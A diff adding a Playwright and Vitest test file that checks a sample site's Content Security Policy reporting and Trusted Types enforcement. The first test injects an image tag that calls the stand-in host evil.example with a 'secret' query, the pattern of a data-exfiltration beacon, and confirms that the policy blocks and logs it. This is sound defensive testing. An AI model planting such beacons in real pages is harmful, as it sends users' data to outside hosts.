@@ -1,0 +1,68 @@
+import type { Browser } from 'playwright-core';
+import { afterAll, beforeAll, expect, it } from 'vitest';
+import { launchBrowser, openPage } from '../support/browser.ts';
+import { type SampleSite, startSampleSite } from '../support/sample-site.ts';
+
+let site: SampleSite;
+let browser: Browser;
+beforeAll(async () => {
+  [site, browser] = await Promise.all([startSampleSite(), launchBrowser()]);
+});
+afterAll(async () => {
+  await browser.close();
+  await site.close();
+});
+
+it('what the policy keeps from happening is told to the site, and stands in its log', async () => {
+  const watched = await openPage(browser);
+  await watched.page.route(`${site.url}/about`, async route => {
+    const response = await route.fetch();
+    const body = (await response.text()).replace(
+      '<main',
+      '<img src="https://evil.example/pixel.gif?secret=1"><main',
+    );
+    await route.fulfill({ response, body });
+  });
+  await watched.page.goto(`${site.url}/about`);
+  await expect
+    .poll(() => site.log.filter(line => line.msg === 'csp report').map(line => line.report), {
+      timeout: 20_000,
+    })
+    .toContainEqual({
+      page: `${site.url}/about`,
+      directive: 'img-src',
+      blocked: expect.stringMatching(/^https:\/\/evil\.example(?:\/pixel\.gif)?$/),
+      source: expect.any(String),
+    });
+  await watched.close();
+});
+
+it('no text becomes script: Trusted Types refuse it, and no policy can be made', async () => {
+  const watched = await openPage(browser);
+  await watched.page.goto(`${site.url}/about`);
+  const refused = await watched.page.evaluate(() => {
+    const names = (work: () => unknown) => {
+      try {
+        work();
+        return 'nothing';
+      } catch (error) {
+        return (error as Error).name;
+      }
+    };
+    return [
+      names(() => {
+        document.createElement('div').innerHTML = '<b>x</b>';
+      }),
+      names(() => {
+        document.createElement('script').src = '/x.js';
+      }),
+      names(() =>
+        (
+          window as unknown as { trustedTypes: { createPolicy(name: string, rules: object): unknown } }
+        ).trustedTypes.createPolicy('x', {}),
+      ),
+    ];
+  });
+  expect(refused).toEqual(['TypeError', 'TypeError', 'TypeError']);
+  await watched.close();
+});
